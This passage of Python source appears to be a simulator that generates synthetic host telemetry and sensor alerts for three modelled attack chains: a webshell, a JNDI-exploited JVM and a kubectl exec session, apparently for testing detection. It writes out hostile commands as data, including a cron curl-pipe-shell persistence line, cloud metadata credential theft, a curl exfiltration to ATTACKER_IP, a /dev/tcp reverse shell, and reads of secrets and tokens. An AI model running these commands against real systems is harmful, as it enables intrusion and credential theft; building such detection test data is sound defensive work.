    yield sim.exec(c.t, chmod)
    yield sim.file(c.ms(0.1, 1), chmod, "file_chmod", "/tmp/.k", mode=0o755)
    yield sim.exit(c.ms(0.1, 1), chmod)
    # (crontab -l; echo "*/5 * * * * curl ... | sh") | crontab -
    c.ms(1, 5)
    spool = "/var/spool/cron/crontabs/www-data"
    yield from _simple(sim, c, sh, "crontab -l", reads=(spool,), code=1)
    crontab = sim.proc(sh, c.ms(1, 5), "crontab -")
    yield sim.exec(c.t, crontab)
    tmp = f"/var/spool/cron/crontabs/tmp.{_suffix(rng, 6)}"
    yield sim.file(c.ms(0.2, 1), crontab, "file_create", tmp, mode=0o600)
    yield sim.file(c.ms(0.1, 0.5), crontab, "file_write", tmp)
    flagged = sim.file(c.ms(0.1, 0.5), crontab, "file_rename", tmp, target_path=spool)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.crontab_modified")
    yield sim.exit(c.t, crontab)
    # IMDSv2: a token, the role's name, then its credentials.
    base = "/latest/meta-data/iam/security-credentials/"
    for path, method in (
        ("/latest/api/token", "PUT"),
        (base, "GET"),
        (base + "web-prod-role", "GET"),
    ):
        header = (
            "X-aws-ec2-metadata-token-ttl-seconds: 21600"
            if method == "PUT"
            else "X-aws-ec2-metadata-token: AQAEAFTzRx0Nyx3tP0fB2xq9LGdUgK7w=="
        )
        argv = ["curl", "-s", "-X", method, "-H", header, f"http://{IMDS_IP}{path}"]
        query = sim.proc(sh, c.ms(5, 40), argv)
        yield sim.exec(c.t, query)
        yield sim.connect(c.ms(0.3, 1), query, IMDS_IP, 80)
        role = "web-prod-role" if path.endswith("role") else None
        flagged = sim.imds(c.ms(0.3, 1), query, path, "curl/7.88.1", method=method, role=role)
        yield flagged
        if role:
            yield from _alert(sim, c, flagged, "sensor.imds_credentials")
        yield sim.exit(c.ms(1, 5), query)
    c.ms(5, 40)
    exfil = f"curl -s -X POST --data-binary @- http://{ATTACKER_IP}/c"
    yield from _simple(sim, c, sh, exfil, connect=(ATTACKER_IP, 80))
    yield sim.exit(c.ms(1, 5), sh)
    yield sim.exit(c.ms(0.2, 1), root)


def _chain_jvm_revshell(sim: _Sim, h: _Host, chain: _Chain, c: _Clock) -> Step:
    """A JNDI-exploited JVM -> sh -c -> bash -i to 198.51.100.9:4444 -> recon, a pty."""
    java = h.java
    assert java is not None
    # The exploit request and the JNDI lookups are the service's own events.
    yield sim.accept(c.ms(1, 500), java, REVSHELL_IP, 8080)
    yield sim.connect(c.ms(2, 10), java, REVSHELL_IP, 1389)
    yield sim.connect(c.ms(20, 80), java, REVSHELL_IP, 8000)
    command = f"bash -i >& /dev/tcp/{REVSHELL_IP}/4444 0>&1"
    root = sim.proc(java, c.ms(20, 80), ["/bin/sh", "-c", command], chain=chain)
    chain.root = root.identity
    flagged = sim.exec(c.t, root)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.shell_from_java", compromises=True)
    bash = sim.proc(root, c.t, "bash -i")
    yield sim.exec(c.t, bash)
    flagged = sim.connect(c.ms(0.2, 1), bash, REVSHELL_IP, 4444)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.reverse_shell")
    for argv in ("id", "uname -a"):
        c.gap(5)
        yield from _simple(sim, c, bash, argv)
    c.gap(5)
    yield from _simple(
        sim, c, bash, "cat /etc/passwd", reads=("/etc/passwd",), alert="sensor.account_discovery"
    )
    c.gap(5)
    yield from _simple(sim, c, bash, "ls -la /opt/app")
    # Upgrade to a pty: a bash with a tty, still inside the exploit.
    py = sim.proc(bash, c.gap(8), ["python3", "-c", 'import pty; pty.spawn("/bin/bash")'])
    yield sim.exec(c.t, py)
    tty = h.open_pts()  # never closed: the chain is planned ahead of the noise's sessions
    pty_bash = sim.proc(py, c.ms(2, 8), "/bin/bash", tty=tty)
    yield sim.exec(c.t, pty_bash)
    c.gap(4)
    yield from _simple(sim, c, pty_bash, "whoami")
    c.gap(6)
    config = "/opt/app/config/application.yml"
    yield from _simple(sim, c, pty_bash, f"cat {config}", reads=(config,))
    yield sim.exit(c.gap(5), pty_bash)
    yield sim.exit(c.ms(1, 5), py)
    yield sim.exit(c.gap(3), bash)
    yield sim.exit(c.ms(0.2, 1), root)


def _chain_kubectl_exec(sim: _Sim, h: _Host, chain: _Chain, c: _Clock) -> Step:
    """kubectl exec into the web pod -> bash -> apt-get install nmap, secrets, API calls."""
    groups = ["system:authenticated", "oidc:developers"]
    session = _k8s_session(sim, "alice@example.com", groups)
    c.ms(1, 500)
    first = yield from _runc_exec(
        sim, c, h.pods["web"], "bash", tty="pts/0", session=session, chain=chain
    )
    bash = first.proc
    chain.root = bash.identity
    yield from _alert(sim, c, first, "sensor.k8s_exec_shell")
    c.gap(4)
    yield from _simple(sim, c, bash, "id")
    c.gap(4)
    yield from _simple(sim, c, bash, "cat /etc/os-release", reads=("/etc/os-release",))
    update = sim.proc(bash, c.gap(5), "apt-get update")
    yield sim.exec(c.t, update)
    yield from _apt_fetch(sim, c, update, "deb.debian.org", "151.101.2.132")
    lists = "/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease"
    yield sim.file(c.ms(5, 30), update, "file_write", lists)
    yield sim.exit(c.ms(5, 30), update)
    install = sim.proc(bash, c.gap(4), "apt-get install -y nmap")
    flagged = sim.exec(c.t, install)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.package_install_in_container")
    yield from _apt_fetch(sim, c, install, "deb.debian.org", "151.101.2.132")
    deb = "/var/cache/apt/archives/nmap_7.93+dfsg1-1_amd64.deb"
    argv = f"/usr/bin/dpkg --status-fd 23 --no-triggers --unpack --auto-deconfigure {deb}"
    dpkg = sim.proc(install, c.ms(5, 30), argv)
    yield sim.exec(c.t, dpkg)
    yield sim.file(c.ms(5, 30), dpkg, "file_create", "/usr/bin/nmap.dpkg-new", mode=0o644)
    yield sim.file(c.ms(1, 5), dpkg, "file_chmod", "/usr/bin/nmap.dpkg-new", mode=0o755)
    new = "/usr/bin/nmap.dpkg-new"
    yield sim.file(c.ms(1, 5), dpkg, "file_rename", new, target_path="/usr/bin/nmap")
    yield sim.exit(c.ms(5, 30), dpkg)
    yield sim.exit(c.ms(5, 30), install)
    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    c.gap(5)
    yield from _simple(
        sim, c, bash, f"cat {token}", reads=(token,), alert="sensor.k8s_sa_token_read"
    )
    c.gap(4)
    yield from _simple(sim, c, bash, "ls /etc/secrets")
    c.gap(5)
    secret = "/etc/secrets/db-password"
    yield from _simple(
        sim, c, bash, f"cat {secret}", reads=(secret,), alert="sensor.secret_file_read"
    )
    nmap = sim.proc(bash, c.gap(6), "nmap -sT -p 443,6443,10250 10.0.1.0/28")
    flagged = sim.exec(c.t, nmap)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.network_scan")
    for last in (1, 11, 12, 13):
        for port in (443, 6443, 10250):
            yield sim.connect(c.ms(0.1, 2), nmap, f"10.0.1.{last}", port)
    yield sim.exit(c.ms(100, 900), nmap)
    argv = [
        "curl",
        "-sk",
        "-H",
        "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjRmT2V",
        "https://kubernetes.default.svc/api/v1/namespaces/shop/secrets",
    ]
    curl = sim.proc(bash, c.gap(6), argv)
    yield sim.exec(c.t, curl)
    yield sim.dns(c.ms(0.5, 2), curl, "kubernetes.default.svc.cluster.local", "10.96.0.1")
    yield sim.connect(c.ms(0.5, 2), curl, "10.96.0.1", 443)
    yield sim.exit(c.ms(20, 200), curl)
    yield sim.exit(c.gap(5), bash)


_CHAINS: dict[str, Callable[[_Sim, _Host, _Chain, _Clock], Step]] = {
    "webshell": _chain_webshell,
    "jvm_revshell": _chain_jvm_revshell,
    "kubectl_exec": _chain_kubectl_exec,
}


def _ready_webshell(h: _Host) -> bool:
    return bool(h.php_workers) and all(w.seen for w in h.nginx_workers + h.php_workers)


def _ready_jvm(h: _Host) -> bool:
    return h.java is not None and h.java.seen


def _ready_kubectl(h: _Host) -> bool:
    return "web" in h.pods and h.pods["web"][0].seen


_READY: dict[str, Callable[[_Host], bool]] = {
    "webshell": _ready_webshell,
    "jvm_revshell": _ready_jvm,
    "kubectl_exec": _ready_kubectl,
}
